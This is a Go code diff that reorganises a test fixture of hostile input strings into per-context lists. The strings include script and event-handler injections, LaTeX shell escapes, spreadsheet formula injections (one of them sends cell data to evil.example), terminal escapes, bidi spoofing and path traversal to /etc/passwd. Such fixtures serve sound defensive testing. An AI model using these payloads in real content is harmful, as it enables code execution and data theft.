@@ -17,8 +17,12 @@ type Name struct{ Tries, Text string }
 
 // Hostile are such names, all different.
 func Hostile() []Name {
-	return []Name{
-		// pages and drawings
+	return slices.Concat(pages, markdown, latex, spreadsheets, terminals, readers, files, harmless)
+}
+
+// The names, by whom they would harm.
+var (
+	pages = []Name{
 		{"a script", `<script>alert(1)</script>`},
 		{"to end a script", `</script><script>alert(2)</script>`},
 		{"to hide a script", `<!--<script>-->`},
@@ -34,7 +38,9 @@ func Hostile() []Name {
 		{"a page as an address", `data:text/html,<script>alert(8)</script>`},
 		{"a template", "{{.}} ${alert(9)} `alert(10)` <%= 1 %>"},
 		{"style", `x;}*{background:url(//evil.example)}`},
-		// Markdown
+	}
+
+	markdown = []Name{
 		{"a link", `[a](javascript:alert(11)) ![b](http://evil.example/b.png)`},
 		{"a definition", `[a]: http://evil.example "b"`},
 		{"links without marks", `http://evil.example www.evil.example a@evil.example @octocat #1 :smile:`},
@@ -44,14 +50,18 @@ func Hostile() []Name {
 		{"blocks", "# h\n\n- i\n1. j\n> q\n\n    code\n---\n"},
 		{"HTML in Markdown", `<details open ontoggle=alert(12)><summary>`},
 		{"cells", `a|b||c\|d\\|e`},
-		// LaTeX
+	}
+
+	latex = []Name{
 		{"commands", `\input{/etc/passwd}\write18{id}\def\x{y}`},
 		{"special characters", `$ % & _ # ~ ^ { } \ < > |`},
 		{"to leave a table", `}\end{tabular}\\[1cm]{%`},
 		{"a row", `a & b \\ \hline`},
 		{"an option", `[1cm] *`},
 		{"ligatures", "-- --- ''a'' ``b`` ,, ?` !`"},
-		// spreadsheets
+	}
+
+	spreadsheets = []Name{
 		{"a formula", `=HYPERLINK("http://evil.example?"&A1,"x")`},
 		{"a sum", `+1+cmd|' /C calc'!A0`},
 		{"a difference", `-2+3+cmd|' /C calc'!A0`},
@@ -63,7 +73,9 @@ func Hostile() []Name {
 		{"a formula in another cell", `a;=1+1;b`},
 		{"a formula of full width", "＝1＋1"},
 		{"an end of quotes", `a","=1+1","b`},
-		// terminals
+	}
+
+	terminals = []Name{
 		{"colour", "\x1b[31mred\x1b[0m"},
 		{"a title", "\x1b]0;owned\a"},
 		{"a link on a terminal", "\x1b]8;;http://evil.example\x1b\\x\x1b]8;;\x1b\\"},
@@ -72,7 +84,9 @@ func Hostile() []Name {
 		{"bells and deletions", "a\a\b\b\x7f"},
 		{"to go back", "good\rbad"},
 		{"NUL", "a\x00b"},
-		// readers
+	}
+
+	readers = []Name{
 		{"to turn around", "a\u202egpj.exe\u202c"},
 		{"isolates", "\u2066a\u2067b\u2068c\u2069"},
 		{"marks of direction", "a\u200eb\u200fc\u061cd"},
@@ -85,7 +99,9 @@ func Hostile() []Name {
 		{"private characters", "\ue000a\ue001b\uf8ff"},
 		{"length", strings.Repeat("long", 600)},
 		{"length in words", strings.Repeat("more words ", 200) + "."},
-		// files and shells
+	}
+
+	files = []Name{
 		{"another folder", "../../../../etc/passwd"},
 		{"a root", "/etc/passwd"},
 		{"another folder of Windows", `..\..\x`},
@@ -97,10 +113,13 @@ func Hostile() []Name {
 		{"a flag", "--out=x"},
 		{"a file by a sign", "@/etc/passwd"},
 		{"a format", "%s%n%!d(MISSING)"},
-		// what means no harm
+	}
+
+	// harmless means no harm, in scripts of its own.
+	harmless = []Name{
 		{"nothing, in scripts of its own", "模型 Ω é 🤖👩\u200d🚀 नमस्ते क्\u200dष مرحبا"},
 	}
-}
+)
 
 // Texts are the names alone.
 func Texts() []string {
